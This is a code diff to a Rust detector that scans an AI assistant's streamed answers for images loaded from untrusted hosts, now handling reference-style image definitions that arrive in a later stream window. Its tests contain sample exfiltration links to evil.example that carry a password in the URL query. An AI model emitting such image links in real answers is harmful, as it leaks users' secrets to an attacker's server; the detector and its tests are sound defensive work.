@@ -29,6 +29,7 @@
 //! rules' own regexes run only on a text that matched).
 
 use std::borrow::Cow;
+use std::collections::BTreeSet;
 
 use futures::FutureExt;
 use regex::{Regex, RegexBuilder};
@@ -332,6 +333,17 @@ impl OutputRulesDetector {
     /// Findings in answer text, outside code. `fence`: the code fence open
     /// where `text` starts (a stream window's).
     pub fn scan_answer(&self, text: &str, fence: Option<Fence>) -> Vec<Finding> {
+        self.scan_answer_after(text, fence, None)
+    }
+
+    /// [`Self::scan_answer`] on a stream window: `labels` are the reference
+    /// images of the answer before it ([`images::image_labels`]).
+    pub fn scan_answer_after(
+        &self,
+        text: &str,
+        fence: Option<Fence>,
+        labels: Option<&BTreeSet<String>>,
+    ) -> Vec<Finding> {
         let rules = self.text.set.is_match(Input::new(text));
         let hosts = self.image_hosts.as_ref().filter(|_| images::may_load(text));
         if !rules && hosts.is_none() {
@@ -350,7 +362,7 @@ impl OutputRulesDetector {
         };
         if let Some(hosts) = hosts {
             found.extend(
-                images::image_sources(text)
+                images::image_sources_after(text, labels.unwrap_or(&BTreeSet::new()))
                     .into_iter()
                     .filter(|s| !hosts.allows(&s.host) && !markdown::in_code(&code, s.span.start))
                     .take(MAX_PER_RULE)
@@ -428,7 +440,9 @@ impl Detector for OutputRulesDetector {
 
     fn scan<'a>(&'a self, segment: Segment<'a>) -> ScanFuture<'a> {
         let found = match (segment.role, segment.kind) {
-            (Role::Assistant, SegmentKind::Text) => self.scan_answer(segment.text, segment.fence),
+            (Role::Assistant, SegmentKind::Text) => {
+                self.scan_answer_after(segment.text, segment.fence, segment.image_labels)
+            }
             (Role::Assistant, SegmentKind::ToolArguments) => self.scan_tool_arguments(segment.text),
             _ => Vec::new(),
         };
@@ -758,6 +772,13 @@ mod tests {
         // Both kinds of finding on one image, each once.
         let both = rules("![](https://evil.example/p.png?d=the%20user%20password%20is)");
         assert_eq!(both, ["output.image_carries_text", UNTRUSTED_IMAGE_RULE]);
+        // A definition whose image came in an earlier stream window.
+        let labels = images::image_labels("Chart: ![q3][Fig] and more");
+        let window = "figures follow.\n\n[fig]: https://evil.example/c.png\n";
+        assert!(det.scan_answer(window, None).is_empty());
+        let f = det.scan_answer_after(window, None, Some(&labels));
+        assert_eq!(f.len(), 1, "{f:?}");
+        assert_eq!(f[0].rule.as_deref(), Some(UNTRUSTED_IMAGE_RULE));
         // Without a list only the shape rules speak.
         assert!(rules_in_answer("Done! ![](https://evil.example/p.png?k=hunter2)").is_empty());
     }
